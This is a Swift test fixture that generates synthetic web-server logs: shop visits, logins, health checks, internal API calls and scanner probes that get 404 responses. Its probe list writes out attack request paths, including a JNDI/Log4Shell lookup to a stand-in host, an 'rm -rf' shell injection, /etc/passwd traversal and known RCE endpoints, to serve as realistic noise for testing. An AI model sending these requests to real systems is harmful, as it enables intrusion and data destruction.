import Events
import TestSupport

/// Three web servers: a shop on the Internet that strangers visit, probe and try passwords at, an
/// interface that workstations and a monitor call, and a blog whose log names no server.
struct QuietWeb {
  static let shop = "10.2.0.80"
  static let interface = "10.2.0.90"
  static let blog = "blog"

  static func request(
    _ second: Double, _ client: String, _ server: String?, _ url: String, _ status: Int = 200,
    method: String = "GET"
  ) -> TestEvent {
    var values: [String: TestEvent.Value] = [
      "source_ip": .address(client), "http_method": .text(method), "url_full": .text(url),
      "http_status": .number(status),
    ]
    if let server { values["destination_ip"] = .address(server) }
    if server == nil { values["source"] = .text(blog) }
    return TestEvent(second: second, values)
  }

  static func visitor(_ number: Int) -> String { "198.51.\(number / 200).\(number % 200 + 1)" }

  private static let pages = [
    "/", "/about", "/contact", "/shipping", "/terms", "/cart", "/checkout", "/login",
    "/static/main.css", "/static/app.js", "/static/logo.png", "/favicon.ico", "/robots.txt",
  ]
  private static let probes = [
    "/.env", "/.git/config", "/wp-login.php", "/xmlrpc.php", "/phpmyadmin/index.php",
    "/cgi-bin/luci/;stok=/locale?form=country", "/shell?cd+/tmp;rm+-rf+*", "/actuator/health",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/boaform/admin/formLogin",
    "/?x=${jndi:ldap://203.0.113.9/a}", "/index.php?s=/index/think/app/invokefunction",
    "/..%2f..%2f..%2fetc/passwd", "/api/v1/pods", "/solr/admin/info/system?wt=json",
    "/HNAP1", "/owa/auth/logon.aspx", "/remote/login?lang=en", "/console/", "/manager/html",
  ]

  /// The requests of a day, 0 being a Monday.
  static func day(_ number: Int) -> [TestEvent] {
    var random = SplitMix(seed: UInt64(number) + 5000)
    var events: [TestEvent] = []
    func second() -> Double { .random(in: 0..<86_400, using: &random) }
    func any(_ list: [String]) -> String { list[.random(in: 0..<list.count, using: &random)] }
    for visitor in 0..<60 {
      let client = self.visitor(.random(in: 0..<2000, using: &random))
      for _ in 0..<Int.random(in: 4...20, using: &random) {
        events.append(request(second(), client, shop, any(pages)))
        events.append(
          request(second(), client, shop, "/product/\(Int.random(in: 1...900, using: &random))"))
      }
      let word = any(QuietNames.words)
      let other = any(QuietNames.words)
      let blanks = visitor % 5 == 0 ? "\(word)%20\(other)" : word
      events.append(request(second(), client, shop, "/search?q=\(blanks)&page=1"))
      if visitor % 3 == 0 {
        for _ in 0..<Int.random(in: 1...3, using: &random) {
          events.append(request(second(), client, shop, "/login", 401, method: "POST"))
        }
        events.append(request(second(), client, shop, "/login", 302, method: "POST"))
      }
      events.append(
        request(second(), client, nil, "/posts/\(any(QuietNames.words))-\(any(QuietNames.words))"))
      events.append(request(second(), client, nil, any(["/", "/feed.xml", "/style.css"])))
    }
    // An article that is new, and one of a kind.
    events.append(
      request(second(), visitor(number), nil, "/posts/\(QuietNames.words[number % 20])\(number)x"))
    for prober in 0..<Int.random(in: 4...12, using: &random) {
      for _ in 0..<Int.random(in: 2...30, using: &random) {
        let path =
          Bool.random(using: &random)
          ? any(probes) : "/\(QuietNames.letters(6, &random)).\(any(["php", "asp", "zip"]))"
        for server in [shop, nil] where Bool.random(using: &random) {
          events.append(
            request(second(), "203.0.\(number).\(prober)", server, path, 404))
        }
      }
    }
    for minute in 0..<288 {
      events.append(request(Double(minute) * 300, "10.2.0.7", interface, "/health"))
    }
    for host in 0..<12 where number % 7 < 5 {
      for _ in 0..<40 {
        let path = any(["/v1/orders/\(number * 77)", "/v1/stock?item=17&store=4", "/v1/customers"])
        events.append(request(second(), QuietOffice.workstation(host), interface, path))
      }
      events.append(
        request(second(), QuietOffice.workstation(host), interface, "/v1/orders", method: "POST"))
    }
    return events
  }

  /// A site with that many quiet days, at most 16.
  static func site(days: Int) throws -> TestSite { try longest.get().first(days) }

  private static let longest = Result {
    var site = TestSite()
    for number in 0..<16 { try site.add([], events: [.http: day(number)]) }
    return site
  }
}
